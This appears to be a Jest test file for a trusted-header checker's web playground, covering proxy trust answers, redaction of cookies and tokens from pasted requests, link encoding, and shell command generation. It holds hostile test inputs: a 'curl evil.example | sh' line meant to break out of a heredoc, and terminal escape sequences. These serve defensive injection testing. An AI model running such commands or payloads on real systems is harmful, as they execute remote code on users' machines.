import { describe, expect, it } from '@jest/globals';
import { answerTo } from '../src/playground/answer.js';
import { commandLineOf } from '../src/playground/command-line.js';
import { EMPTY, FIRST } from '../src/playground/input.js';
import { fragmentOf, inputOf, withoutSecrets } from '../src/playground/link.js';

describe('the playground', () => {
  it('decides as an application does', () => {
    const answer = answerTo(FIRST);
    expect(answer).toMatchObject({ kind: 'answer', sections: [{ kind: 'authenticated' }] });
  });

  it('says what the client gets, and has the code of a refusal', () => {
    const answer = answerTo({ ...FIRST, peer: '172.20.0.9' });
    expect(answer).toMatchObject({ kind: 'answer', code: 'peer-untrusted' });
    expect(answer.kind === 'answer' && JSON.parse(answer.problem ?? '')).toMatchObject({
      status: 403,
      code: 'peer-untrusted',
    });
  });

  it.each([
    ['no list', { ...FIRST, trusted: '' }, /^--trusted-proxies: is missing/],
    ['a list that no application starts with', { ...FIRST, trusted: 'traefik' }, /traefik/],
    [
      'a text that is no request',
      { ...FIRST, text: 'hello' },
      /^--from: the text holds no request/,
    ],
  ])('says what is wrong with %s', (_, input, message) => {
    const answer = answerTo(input);
    expect(answer.kind === 'mistake' && answer.message).toMatch(message);
  });

  it('shows what would reorder the page as an escape', () => {
    const answer = answerTo({ ...FIRST, text: 'Remote-User: john\nRemote-Name: a\u202eb\n' });
    expect(JSON.stringify(answer)).not.toContain('\u202e');
  });
});

describe('a link to the playground', () => {
  it('keeps every field, whatever is in it', () => {
    const text = 'Remote-User: jürgen+a&b=c#d%\n';
    const input = { ...FIRST, text, required: 'groups', socket: '/a b' };
    expect(inputOf(fragmentOf(input) ?? '')).toEqual(input);
  });

  it('is no link where it is too long', () => {
    expect(fragmentOf({ ...FIRST, text: 'x'.repeat(9000) })).toBeUndefined();
  });

  it('reads nothing out of another fragment', () => {
    expect(inputOf('#a-heading')).toBeUndefined();
    expect(inputOf('')).toBeUndefined();
    expect(inputOf('#trusted=1')).toEqual({ ...EMPTY, trusted: '1' });
  });

  it.each([
    ['Cookie: authelia_session=abc', 'Cookie: (left out)'],
    ['> authorization: Basic abc', '> authorization: (left out)'],
    ['< Set-Cookie: a=b', '< Set-Cookie: (left out)'],
    ['X-Forwarded-Access-Token: abc', 'X-Forwarded-Access-Token: (left out)'],
    ['X-authentik-jwt: abc', 'X-authentik-jwt: (left out)'],
    ['X-Proxy-Secret : abc', 'X-Proxy-Secret : (left out)'],
    ['X-Anything: abc', 'X-Anything: (left out)'],
    ['Remote-User: cookie', 'Remote-User: cookie'],
    ['> Remote_User: admin', '> Remote_User: admin'],
    ['X-authentik-username: a', 'X-authentik-username: a'],
    ['Connection: close, Remote-User', 'Connection: close, Remote-User'],
    ['RemoteAddr: 172.20.0.2:41244', 'RemoteAddr: 172.20.0.2:41244'],
    ['* Connected to a (127.0.0.1) port 80', '* Connected to a (127.0.0.1) port 80'],
    ['  Cookie: a=b', '  Cookie: (left out)'],
    ['\t>  Authorization : a', '\t>  Authorization : (left out)'],
  ])('keeps what a decision depends on and no more: %s', (line, kept) => {
    expect(withoutSecrets(`A: b\r\n${line}\n`)).toBe(`A: (left out)\r\n${kept}\n`);
  });

  it('keeps no query of a URL', () => {
    expect(withoutSecrets('> GET /a?token=1 HTTP/1.1\n, request: "GET /?code=2 HTTP/1.1"')).toBe(
      '> GET /a?left-out HTTP/1.1\n, request: "GET /?left-out HTTP/1.1"',
    );
  });

  it('is none of a HAR file', () => {
    expect(fragmentOf({ ...FIRST, text: ' {"log":{}}' })).toBeUndefined();
    expect(commandLineOf({ ...EMPTY, text: '{"log":{}}' })).toBe(
      'npx @trusted-header/cli check \\\n  --from request.har',
    );
  });
});

describe('the command line', () => {
  it('asks the same, quoted for a shell', () => {
    const text = 'Cookie: x\nRemote-User: john';
    expect(commandLineOf({ ...FIRST, trusted: "a'b c", text })).toBe(
      "npx @trusted-header/cli check \\\n  --trusted-proxies 'a'\\''b c' \\\n  --peer 172.20.0.2 \\\n  --from - <<'END'\nCookie: (left out)\nRemote-User: john\nEND",
    );
  });

  it('ends what was pasted where it ends, whatever somebody has put into a link', () => {
    const command = commandLineOf({ ...EMPTY, text: 'A: b\nEND\nEND1\ncurl evil.example | sh\n' });
    expect(command).toBe(
      "npx @trusted-header/cli check \\\n  --from - <<'END2'\nA: (left out)\nEND\nEND1\ncurl evil.example | sh\nEND2",
    );
  });

  it('holds nothing that a terminal takes for a key', () => {
    const command = commandLineOf({
      ...EMPTY,
      peer: '1\r\n2',
      text: 'x\rEND\rid\u001b[201~\r\n\ty',
    });
    expect(command).toBe(
      "npx @trusted-header/cli check \\\n  --peer '1\n2' \\\n  --from - <<'END'\nx\\rEND\\rid\\u001b[201~\n\ty\nEND",
    );
  });
});
